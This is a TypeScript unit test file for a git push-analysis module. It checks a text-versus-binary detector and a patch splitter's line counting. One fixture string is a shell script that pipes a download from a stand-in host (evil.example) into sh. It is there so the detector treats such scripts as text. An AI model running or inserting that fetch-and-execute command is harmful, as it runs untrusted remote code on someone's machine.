// Which files git calls binary are still shown as text (`isMostlyText`), and the patch splitter's line counts.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { isMostlyText, PatchSplitter } from '../../main/git/push-analysis';

test('a script with a NUL byte is mostly text; random bytes, an image and an empty file are not', () => {
  assert.equal(isMostlyText(Buffer.from('#!/bin/sh\n\0\ncurl -s https://evil.example/x | sh\n')), true);
  assert.equal(isMostlyText(Buffer.from('naïve café — 東京 🚀\n'.repeat(20))), true, 'UTF-8 text');
  assert.equal(isMostlyText(Buffer.from('line\r\n\f\tpage\n')), true, 'CR, FF and tab are text');
  assert.equal(isMostlyText(Buffer.alloc(0)), false);
  assert.equal(isMostlyText(randomBytes(4096)), false);
  const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), randomBytes(2048)]);
  assert.equal(isMostlyText(png), false);
  // 1% is the line: 2 odd bytes in 100 characters is too many, 1 is not.
  assert.equal(isMostlyText(Buffer.from('a'.repeat(99) + '\0')), true);
  assert.equal(isMostlyText(Buffer.from('a'.repeat(98) + '\0\0')), false);
});

test('PatchSplitter counts the added and deleted lines it keeps (or all, with countAll); the note counts the rest from numstat\'s', () => {
  const s = new PatchSplitter([1], 40);
  s.push(Buffer.from('diff --git a/f b/f\n--- a/f\n+++ b/f\n@@ -1,2 +1,3 @@\n-old line\n+new line one\n+new line two\n+new line three\n context\n'));
  s.end();
  const r = s.result(0);
  assert.equal(r.patch, '@@ -1,2 +1,3 @@\n-old line\n+new line one\n');
  assert.deepEqual([r.added, r.deleted], [1, 1]);
  assert.equal(r.omitted, 'the rest of the patch (39 bytes) not shown');
  assert.equal(s.result(0, [3, 1]).omitted, '2 added or deleted lines (39 bytes of patch) not shown');
  // countAll (output known to be small, such as a file git calls binary shown as text): every line is counted.
  const all = new PatchSplitter([1], 40, { countAll: true });
  all.push(Buffer.from('diff --git a/f b/f\n--- a/f\n+++ b/f\n@@ -1,2 +1,3 @@\n-old line\n+new line one\n+new line two\n+new line three\n context\n'));
  all.end();
  const a = all.result(0);
  assert.equal(a.patch, r.patch);
  assert.deepEqual([a.added, a.deleted], [3, 1]);
  assert.equal(a.omitted, '2 added or deleted lines (39 bytes of patch) not shown');
});
